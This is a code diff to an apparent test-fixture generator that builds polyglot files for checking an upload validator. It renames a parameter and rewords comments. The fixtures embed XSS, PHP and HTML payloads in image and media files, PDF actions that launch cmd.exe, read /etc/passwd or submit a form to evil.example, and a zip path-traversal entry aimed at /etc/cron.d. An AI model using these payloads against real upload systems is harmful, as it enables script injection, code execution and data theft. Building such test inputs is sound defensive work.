@@ -4,52 +4,52 @@ import { box, pngChunk, withGifComment, withJpegSegment, withPngChunks } from '.
 import { type ValidFiles, validMp4, validPdf } from './valid-files.ts';
 import { wordParts, zip } from './zip.ts';
 
-/** Files that are sound in one reading and something else in another. */
-export function polyglots(sound: ValidFiles): HostileFile[] {
+/** Builds files that are valid in one format and something else in another. */
+export function polyglots(valid: ValidFiles): HostileFile[] {
   const archive = zip([{ name: 'a.html', bytes: Buffer.from(page) }]);
   const jar = zip([{ name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Main-Class: A\n') }]);
   const followedBy = (file: Buffer, tail: Buffer | string) =>
     Buffer.concat([file, Buffer.from(tail)]);
   const pngText = (type: string, text: string) =>
-    withPngChunks(sound.png, [pngChunk(type, Buffer.from(text, 'latin1'))]);
+    withPngChunks(valid.png, [pngChunk(type, Buffer.from(text, 'latin1'))]);
   const code = 'alert(document.domain)';
 
   const files: [string, Buffer, string][] = [
-    ['a.gif', scriptedGif(sound.gif, code), 'GIF that is JavaScript as well'],
-    ['b.gif', withGifComment(sound.gif, page), 'GIF with HTML in a comment'],
-    ['c.gif', withGifComment(sound.gif, php), 'GIF with PHP in a comment'],
-    ['d.gif', followedBy(sound.gif, jar), 'GIF that is a Java archive as well'],
-    ['e.gif', followedBy(sound.gif, page), 'GIF followed by HTML'],
-    ['a.jpg', withJpegSegment(sound.jpg, 0xfe, page), 'JPEG with HTML in a comment'],
+    ['a.gif', scriptedGif(valid.gif, code), 'GIF that is JavaScript as well'],
+    ['b.gif', withGifComment(valid.gif, page), 'GIF with HTML in a comment'],
+    ['c.gif', withGifComment(valid.gif, php), 'GIF with PHP in a comment'],
+    ['d.gif', followedBy(valid.gif, jar), 'GIF that is a Java archive as well'],
+    ['e.gif', followedBy(valid.gif, page), 'GIF followed by HTML'],
+    ['a.jpg', withJpegSegment(valid.jpg, 0xfe, page), 'JPEG with HTML in a comment'],
     [
       'b.jpg',
-      withJpegSegment(sound.jpg, 0xfe, `*/=1;${code}/*`),
+      withJpegSegment(valid.jpg, 0xfe, `*/=1;${code}/*`),
       'JPEG with JavaScript in a comment',
     ],
     [
       'c.jpg',
-      withJpegSegment(sound.jpg, 0xe1, `Exif\0\0MM\0*\0\0\0\x08\0\0${php}`),
+      withJpegSegment(valid.jpg, 0xe1, `Exif\0\0MM\0*\0\0\0\x08\0\0${php}`),
       'JPEG with PHP in its Exif',
     ],
     [
       'd.jpg',
-      withJpegSegment(sound.jpg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${page}`),
+      withJpegSegment(valid.jpg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${page}`),
       'JPEG with HTML in its XMP',
     ],
     [
       'e.jpg',
-      withJpegSegment(sound.jpg, 0xed, `Photoshop 3.0\0${php}`),
+      withJpegSegment(valid.jpg, 0xed, `Photoshop 3.0\0${php}`),
       'JPEG with PHP in its IPTC',
     ],
     [
       'f.jpg',
-      withJpegSegment(sound.jpg, 0xe2, `ICC_PROFILE\0\x01\x01${page}`),
+      withJpegSegment(valid.jpg, 0xe2, `ICC_PROFILE\0\x01\x01${page}`),
       'JPEG with HTML in its colour profile',
     ],
-    ['g.jpg', followedBy(sound.jpg, page), 'JPEG followed by HTML'],
-    ['h.jpg', followedBy(sound.jpg, archive), 'JPEG that is a ZIP as well'],
-    ['i.jpg', followedBy(sound.jpg, sound.pdf), 'JPEG followed by a PDF'],
-    ['j.jpg', followedBy(sound.jpg, sound.mp4), 'JPEG followed by a video, as phones write it'],
+    ['g.jpg', followedBy(valid.jpg, page), 'JPEG followed by HTML'],
+    ['h.jpg', followedBy(valid.jpg, archive), 'JPEG that is a ZIP as well'],
+    ['i.jpg', followedBy(valid.jpg, valid.pdf), 'JPEG followed by a PDF'],
+    ['j.jpg', followedBy(valid.jpg, valid.mp4), 'JPEG followed by a video, as phones write it'],
     ['a.png', pngText('tEXt', `Comment\0${page}`), 'PNG with HTML in a text'],
     ['b.png', pngText('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${page}`), 'PNG with HTML in its XMP'],
     [
@@ -59,29 +59,29 @@ export function polyglots(sound: ValidFiles): HostileFile[] {
     ],
     ['d.png', pngText('eXIf', `MM\0*\0\0\0\x08\0\0${php}`), 'PNG with PHP in its Exif'],
     ['e.png', pngText('teST', php), 'PNG with PHP in a chunk of its own'],
-    ['f.png', followedBy(sound.png, php), 'PNG followed by PHP'],
-    ['g.png', followedBy(sound.png, archive), 'PNG that is a ZIP as well'],
-    ['a.webp', followedBy(sound.webp, page), 'WebP followed by HTML'],
-    ['b.webp', riffChunk(sound.webp, 'EXIF', page), 'WebP with HTML in a chunk'],
+    ['f.png', followedBy(valid.png, php), 'PNG followed by PHP'],
+    ['g.png', followedBy(valid.png, archive), 'PNG that is a ZIP as well'],
+    ['a.webp', followedBy(valid.webp, page), 'WebP followed by HTML'],
+    ['b.webp', riffChunk(valid.webp, 'EXIF', page), 'WebP with HTML in a chunk'],
     [
       'a.avif',
-      followedBy(sound.avif, box('free', Buffer.from(page))),
+      followedBy(valid.avif, box('free', Buffer.from(page))),
       'AVIF with HTML in a free box',
     ],
-    ['b.avif', followedBy(sound.avif, page), 'AVIF followed by HTML'],
-    ['a.ico', followedBy(sound.ico, page), 'icon followed by HTML'],
-    ['a.pdf', followedBy(sound.pdf, page), 'PDF followed by HTML'],
-    ['b.pdf', followedBy(sound.pdf, archive), 'PDF that is a ZIP as well'],
+    ['b.avif', followedBy(valid.avif, page), 'AVIF followed by HTML'],
+    ['a.ico', followedBy(valid.ico, page), 'icon followed by HTML'],
+    ['a.pdf', followedBy(valid.pdf, page), 'PDF followed by HTML'],
+    ['b.pdf', followedBy(valid.pdf, archive), 'PDF that is a ZIP as well'],
     [
       'c.pdf',
-      Buffer.from(sound.pdf.toString('latin1').replace('\n', `\n%${page}\n`), 'latin1'),
+      Buffer.from(valid.pdf.toString('latin1').replace('\n', `\n%${page}\n`), 'latin1'),
       'PDF with HTML in a comment',
     ],
     ['d.pdf', activePdf('/JavaScript /JS (app.alert\\(1\\))'), 'PDF that runs JavaScript'],
     ['e.pdf', activePdf('/Launch /F (cmd.exe)'), 'PDF that starts a program'],
     ['f.pdf', activePdf('/URI /URI (file:///etc/passwd)'), 'PDF that opens a file'],
     ['g.pdf', activePdf('/SubmitForm /F (https://evil.example/)'), 'PDF that sends a form'],
-    ['a.docx', followedBy(sound.docx, page), 'Word document followed by HTML'],
+    ['a.docx', followedBy(valid.docx, page), 'Word document followed by HTML'],
     [
       'b.docx',
       zip([...wordParts(), { name: '../../../etc/cron.d/x', bytes: Buffer.from('x') }]),
@@ -89,17 +89,17 @@ export function polyglots(sound: ValidFiles): HostileFile[] {
     ],
     ['c.docx', withForeignTemplate(), 'Word document with a template elsewhere'],
     ['a.mp4', validMp4(box('free', Buffer.from(page))), 'video with HTML in a free box'],
-    ['b.mp4', followedBy(sound.mp4, page), 'video followed by HTML'],
-    ['c.mp4', followedBy(sound.mp4, archive), 'video that is a ZIP as well'],
-    ['a.webm', followedBy(sound.webm, page), 'WebM followed by HTML'],
-    ['a.ogg', followedBy(sound.ogg, page), 'OGG followed by HTML'],
+    ['b.mp4', followedBy(valid.mp4, page), 'video followed by HTML'],
+    ['c.mp4', followedBy(valid.mp4, archive), 'video that is a ZIP as well'],
+    ['a.webm', followedBy(valid.webm, page), 'WebM followed by HTML'],
+    ['a.ogg', followedBy(valid.ogg, page), 'OGG followed by HTML'],
   ];
   const refused: [string, Buffer, string][] = [
-    ['k.jpg', Buffer.concat([archive, sound.jpg]), 'ZIP followed by a JPEG'],
-    ['h.pdf', Buffer.concat([Buffer.from(page), sound.pdf]), 'HTML followed by a PDF'],
+    ['k.jpg', Buffer.concat([archive, valid.jpg]), 'ZIP followed by a JPEG'],
+    ['h.pdf', Buffer.concat([Buffer.from(page), valid.pdf]), 'HTML followed by a PDF'],
     [
       'i.pdf',
-      Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), sound.pdf]),
+      Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), valid.pdf]),
       'program followed by a PDF',
     ],
     ['a.bmp', Buffer.from(`BM/*${'\0'.repeat(50)}*/=1;${code}`), 'BMP that is JavaScript as well'],
@@ -108,7 +108,7 @@ export function polyglots(sound: ValidFiles): HostileFile[] {
       Buffer.from(`RIFF/*\0\0WAVEfmt ${'\0'.repeat(30)}*/=1;${code}`),
       'WAV that is JavaScript as well',
     ],
-    ['d.docx', Buffer.concat([Buffer.from(page), sound.docx]), 'HTML followed by a Word document'],
+    ['d.docx', Buffer.concat([Buffer.from(page), valid.docx]), 'HTML followed by a Word document'],
   ];
   return [
     ...files.map((file) => polyglot(file, true)),
@@ -120,14 +120,14 @@ function polyglot([fileName, bytes, about]: [string, Buffer, string], mayBeTaken
   return { name: `two in one: ${about}`, bytes, fileName, mayBeTaken, about };
 }
 
-/** A GIF whose width opens a comment that code after its end closes. */
+/** Builds a GIF whose width starts a comment that code after its end closes. */
 function scriptedGif(gif: Buffer, code: string): Buffer {
   const scripted = Buffer.concat([gif, Buffer.from(`*/=1;${code}`)]);
   scripted.write('/*', 6, 'latin1');
   return scripted;
 }
 
-/** A WebP with a chunk that its head does not speak of. */
+/** Builds a WebP with a chunk that its header does not announce. */
 function riffChunk(webp: Buffer, type: string, text: string): Buffer {
   const data = Buffer.from(text.length % 2 ? `${text} ` : text);
   const head = Buffer.from(`${type}\0\0\0\0`, 'latin1');
